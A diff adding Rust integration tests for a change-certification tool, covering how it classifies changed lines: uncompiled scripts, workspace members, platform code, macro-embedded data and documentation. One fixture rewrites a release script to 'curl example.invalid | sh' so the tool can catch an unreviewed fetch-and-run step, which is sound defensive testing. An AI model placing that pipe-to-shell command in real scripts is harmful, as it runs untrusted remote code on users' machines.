@@ -1,0 +1,172 @@
+//! What rides along with a change: every changed line has a class, and code that nothing compiles
+//! comes in only by a grant.
+
+use crate::environment::Environment;
+use crate::verify::{POLICY, verify};
+use flightproof_core::Bytes;
+use serde_json::{Value, json};
+use std::collections::BTreeMap;
+use std::fs;
+
+/// The fixed pricing program in a workspace with a member that is not part of it, code for another
+/// platform, and data that a macro takes in.
+fn workspace() -> Environment {
+    let environment = Environment::with_pricing();
+    environment.git(&["merge", "--quiet", "--ff-only", "candidate"]);
+    let read = |name: &str| fs::read_to_string(environment.path("repo").join(name)).unwrap();
+    let program = "#[macro_use]\nmod embed;\n\n/// Where rates come from.\npub const RATES: &str = embed!(\"rates.csv\");\n\n#[cfg(windows)]\nfn code_page() -> u32 {\n    437\n}\n";
+    let files = [
+        (
+            "Cargo.toml",
+            read("Cargo.toml") + "\n[workspace]\nmembers = [\"tools\"]\n",
+        ),
+        (
+            "Cargo.lock",
+            read("Cargo.lock") + "\n[[package]]\nname = \"tools\"\nversion = \"1.0.0\"\n",
+        ),
+        (
+            "tools/Cargo.toml",
+            "[package]\nname = \"tools\"\nversion = \"1.0.0\"\nedition = \"2021\"\n".to_owned(),
+        ),
+        (
+            "tools/src/main.rs",
+            "struct Limit {\n    most: u64,\n}\n\nfn main() {\n    println!(\"{}\", Limit { most: 7 }.most);\n}\n".to_owned(),
+        ),
+        ("src/main.rs", read("src/main.rs") + program),
+        (
+            "src/embed.rs",
+            "macro_rules! embed {\n    ($name:literal) => {\n        include_str!(concat!(\"../data/\", $name))\n    };\n}\n".to_owned(),
+        ),
+        ("data/rates.csv", "1,250\n".to_owned()),
+        ("data/other.csv", "1,250\n".to_owned()),
+        ("README.md", "# Pricing\n".to_owned()),
+        ("release.sh", "#!/bin/sh\necho release\n".to_owned()),
+    ];
+    let files = files.map(|(name, text)| (name.to_owned(), text));
+    environment.candidate("base", &BTreeMap::from(files));
+    environment.git(&["merge", "--quiet", "--ff-only", "base"]);
+    environment
+}
+
+/// A branch that changes one text in each of some files.
+fn branch(environment: &Environment, name: &str, edits: &[(&str, &str, &str)]) {
+    let files = edits.iter().map(|(file, from, to)| {
+        let text = fs::read_to_string(environment.path("repo").join(file)).unwrap();
+        assert!(text.contains(from), "{file} has no {from}");
+        ((*file).to_owned(), text.replace(from, to))
+    });
+    environment.candidate(name, &files.collect());
+}
+
+/// What of the program is changed beside what rides along.
+const FIX: (&str, &str, &str) = ("src/main.rs", "quantity >= 1 && ", "quantity > 0 && ");
+
+fn lines(environment: &Environment) -> Value {
+    let envelope = fs::read(environment.path("out/certificate.dsse.json")).unwrap();
+    let envelope: Value = serde_json::from_slice(&envelope).unwrap();
+    let payload: Bytes = serde_json::from_value(json!({"$bytes": envelope["payload"]})).unwrap();
+    let statement: Value = serde_json::from_slice(&payload).unwrap();
+    statement
+        .pointer("/predicate/inputs/mutation/lines")
+        .unwrap()
+        .clone()
+}
+
+#[test]
+fn code_that_nothing_compiles_does_not_ride_along_unseen() {
+    let environment = workspace();
+    let script = ("release.sh", "echo release", "curl example.invalid | sh");
+    let member = ("tools/src/main.rs", "most: u64", "most: u32");
+    let platform = ("src/main.rs", "    437", "    65001");
+    for (name, ride, place) in [
+        ("script", script, "release.sh:2"),
+        ("member", member, "tools/src/main.rs:2"),
+        ("platform", platform, "src/main.rs:47"),
+    ] {
+        branch(&environment, name, &[ride]);
+        let run = environment.certify(name, &[]);
+        assert_eq!(run.code, 10, "{}", run.text);
+        let verdict = &run.stdout;
+        let expected = format!(
+            "REFUSED at mutation: certifier/NOT_COMPILED: 1 changed lines, such as {place}"
+        );
+        assert!(verdict.contains(&expected), "{}", run.text);
+    }
+    // The twin: the same lines beside a change of the program, granted and said.
+    branch(&environment, "granted", &[FIX, script, member]);
+    let run = environment.certify("granted", &["--uncompiled", "release.sh"]);
+    assert_eq!(run.code, 10, "{}", run.text);
+    assert!(run.stdout.contains("tools/src/main.rs"), "{}", run.text);
+    let grants = ["--uncompiled", "release.sh", "--uncompiled", "tools"];
+    let run = environment.certify("granted", &grants);
+    assert_eq!(run.code, 0, "{}", run.text);
+    let unseen = "2 changed lines are not compiled";
+    assert!(run.stdout.contains(unseen), "{}", run.text);
+    assert_eq!(
+        lines(&environment),
+        json!({"changed": 3, "mutated": 1, "inert": 0, "data": 0, "notCompiled": 2, "unjudged": 0,
+               "granted": ["release.sh", "tools"]})
+    );
+    environment.write("policy.json", POLICY);
+    let key = environment.public_key();
+    let run = verify(&environment, &key, "granted", &[]);
+    assert_eq!(run.code, 13, "{}", run.text);
+    let code = "certifier/UNCOMPILED_NOT_ALLOWED: 2 lines";
+    assert!(run.stdout.contains(code), "{}", run.text);
+    let lenient = POLICY.replace("\"waivers_max\"", "\"not_compiled\":true,\"waivers_max\"");
+    environment.write("policy.json", &lenient);
+    assert_eq!(verify(&environment, &key, "granted", &[]).code, 0);
+}
+
+#[test]
+fn data_that_a_macro_takes_in_is_part_of_the_program_and_other_data_is_not() {
+    let environment = workspace();
+    let rates = ("data/rates.csv", "250", "1");
+    branch(&environment, "rates", &[FIX, rates]);
+    let run = environment.certify("rates", &[]);
+    assert_eq!(run.code, 10, "{}", run.text);
+    let place = "data/rates.csv unjudged compiled-data";
+    assert!(run.stdout.contains("UNJUDGED_CODE"), "{}", run.text);
+    assert!(run.stdout.contains(place), "{}", run.text);
+
+    branch(
+        &environment,
+        "other",
+        &[FIX, ("data/other.csv", "250", "1")],
+    );
+    let run = environment.certify("other", &[]);
+    assert_eq!(run.code, 0, "{}", run.text);
+    assert_eq!(lines(&environment)["data"], 1);
+}
+
+#[test]
+fn a_change_of_documents_alone_certifies_as_what_it_is() {
+    let environment = workspace();
+    let comment = (
+        "src/main.rs",
+        "/// Where rates",
+        "/// The place where rates",
+    );
+    let readme = ("README.md", "# Pricing\n", "# Pricing\n\nOf orders.\n");
+    branch(&environment, "docs", &[comment, readme]);
+    let run = environment.certify("docs", &[]);
+    assert_eq!(run.code, 0, "{}", run.text);
+    let said = "no changed line is mutable";
+    assert!(run.stdout.contains(said), "{}", run.text);
+    let counts = lines(&environment);
+    assert_eq!(
+        (&counts["changed"], &counts["inert"]),
+        (&json!(3), &json!(3))
+    );
+    // A policy that wants mutants is content where none can be made, and only there.
+    environment.write("policy.json", POLICY);
+    let key = environment.public_key();
+    let run = verify(&environment, &key, "docs", &[]);
+    assert_eq!(run.code, 0, "{}", run.text);
+
+    branch(&environment, "data", &[("data/other.csv", "250", "1")]);
+    let run = environment.certify("data", &[]);
+    assert_eq!(run.code, 0, "{}", run.text);
+    let run = verify(&environment, &key, "data", &[]);
+    assert!(run.stdout.contains("GATE_MISSING"), "{}", run.text);
+}
